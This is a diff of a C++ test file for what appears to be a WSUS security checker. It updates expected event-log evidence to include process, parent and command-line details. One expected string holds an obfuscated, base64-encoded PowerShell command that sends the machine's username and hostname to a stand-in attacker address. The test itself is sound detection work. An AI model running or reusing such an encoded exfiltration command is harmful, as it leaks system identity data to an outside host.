@@ -45,14 +45,18 @@ BOOST_AUTO_TEST_CASE(patched_ws2022_passes_wsus01_on_ubr_4297) {
 }
 
 // The hit: WsusService.exe starting cmd.exe with `powershell -ec <base64>`, the
-// fourth line of the wevtutil export.  The evidence names the event and its time;
-// the process, parent and command line are in the export at that line, but the
-// events leaf does not print them yet (see the report to the lead).
+// fourth line of the wevtutil export, reported with time, parent, process and
+// command line.
 BOOST_AUTO_TEST_CASE(vulnerable_ws2022_fails_wsus04_on_wsusservice_starting_cmd) {
     const Result r = on("vulnerable-ws2022", "WSUS-04");
     BOOST_TEST(to_string(r.status) == "fail");
     const auto& hit = evidence(r, hits_4688);
-    BOOST_TEST(hit.observed == "event 4688 at 2025-10-24T06:55:12.4817731Z");
+    BOOST_TEST(hit.observed ==
+               "event 4688 at 2025-10-24T06:55:12.4817731Z (C:\\Program Files\\Update Services\\Services\\WsusService.exe"
+               " -> C:\\Windows\\System32\\cmd.exe) command line '\"cmd.exe\" /c powershell -ec "
+               "JAB1AD0AdwBoAG8AYQBtAGkAOwAkAGgAPQBoAG8AcwB0AG4AYQBtAGUAOwBJAG4AdgBvAGsAZQAtAFcAZQBiAFIAZQBxAHUAZQBzAHQAIAAtAFUAcgBp"
+               "ACAAaAB0AHQAcAA6AC8ALwAxADkAOAAuADUAMQAuADEAMAAwAC4AMgAzAC8AcgAgAC0ATQBlAHQAaABvAGQAIABQAG8AcwB0ACAALQBCAG8AZAB5ACAA"
+               "KAAkAHUAKwAnAHwAJwArACQAaAApACAALQBVAHMAZQBCAGEAcwBpAGMAUABhAHIAcwBpAG4AZwA='");
     BOOST_TEST(at(hit) == "security-4688.xml:4");
 }
 
@@ -61,8 +65,12 @@ BOOST_AUTO_TEST_CASE(patched_ws2022_passes_wsus04_with_process_creation_events_a
     BOOST_TEST(to_string(r.status) == "pass");
     BOOST_TEST(evidence(r, hits_4688).observed == "no items");
     BOOST_TEST(evidence(r, "events id 4688 channel Security since {param: ioc_since} (count >= 1)").observed ==
-               "event 4688 at 2025-10-22T02:00:03.1183342Z, event 4688 at 2025-10-22T02:15:41.5530127Z, "
-               "event 4688 at 2025-10-24T06:30:00.0041876Z");
+               "event 4688 at 2025-10-22T02:00:03.1183342Z (C:\\Windows\\System32\\svchost.exe -> "
+               "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe) command line 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured "
+               "-Embedding', event 4688 at 2025-10-22T02:15:41.5530127Z (C:\\Windows\\System32\\svchost.exe -> "
+               "C:\\Windows\\System32\\wuauclt.exe) command line '\"C:\\Windows\\system32\\wuauclt.exe\" "
+               "/RunHandlerComServer', event 4688 at 2025-10-24T06:30:00.0041876Z (C:\\Windows\\System32\\svchost.exe -> "
+               "C:\\Windows\\System32\\taskhostw.exe) command line 'taskhostw.exe'");
 }
 
 BOOST_AUTO_TEST_CASE(vulnerable_ws2022_serves_clients_over_http) {
